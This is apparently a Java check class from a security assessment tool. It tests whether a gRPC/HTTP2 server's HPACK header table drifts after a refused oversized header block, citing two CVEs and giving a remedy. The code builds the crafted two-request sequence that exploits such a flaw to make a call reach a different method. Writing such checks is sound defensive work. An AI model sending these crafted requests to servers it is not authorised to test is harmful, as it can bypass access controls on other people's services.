package dev.countersign.assessment;

import java.io.IOException;
import java.security.GeneralSecurityException;

/** Has a header block refused, and looks whether the next one on the connection still means what it says. */
final class HeaderTableDrift extends Check {
  private static final int NEWEST_FIELD = 0x80 | 62;
  private static final int TOO_LARGE = 15_000;
  private static final String OTHER = "/no.such.Service/Method";

  HeaderTableDrift() {
    super(About.of("header-table-drift", Group.PROTOCOL, Severity.HIGH)
        .tries("A request that is too large and teaches the header table the method's path; then a"
            + " call that only refers to it.")
        .safe("The call means the method, or the connection ends.")
        .source("CVE-2023-32731; CVE-2024-7246")
        .remedy("Decode refused header blocks to their end, or end the connection."));
  }

  @Override
  Outcome run(Attack attack) throws IOException, GeneralSecurityException, CannotRunException {
    Attempt attempt = attack.asAllowed(connection -> {
      int first = connection.newStream();
      byte[] teaching = new HeaderBlock()
          .add(":method", "POST")
          .add(":scheme", "https")
          .addIndexed(":path", OTHER)
          .addIndexed(":path", attack.path())
          .add("x-too-large", "a".repeat(TOO_LARGE))
          .bytes();
      connection.headers(first, teaching).send().exchange(first, false);
      int second = connection.newStream();
      byte[] referring = new HeaderBlock()
          .add(":method", "POST")
          .add(":scheme", "https")
          .raw(NEWEST_FIELD)
          .add(":authority", "lab")
          .add("content-type", "application/grpc")
          .add("te", "trailers")
          .bytes();
      return connection
          .headers(second, referring)
          .message(second, new byte[0])
          .send()
          .exchange(second, true);
    });
    return switch (attempt.access()) {
      case ALLOWED, REFUSED -> Outcome.passed(attempt.detail());
      case DENIED, OTHER -> Outcome.finding("the call was taken for another: " + attempt.detail());
    };
  }
}
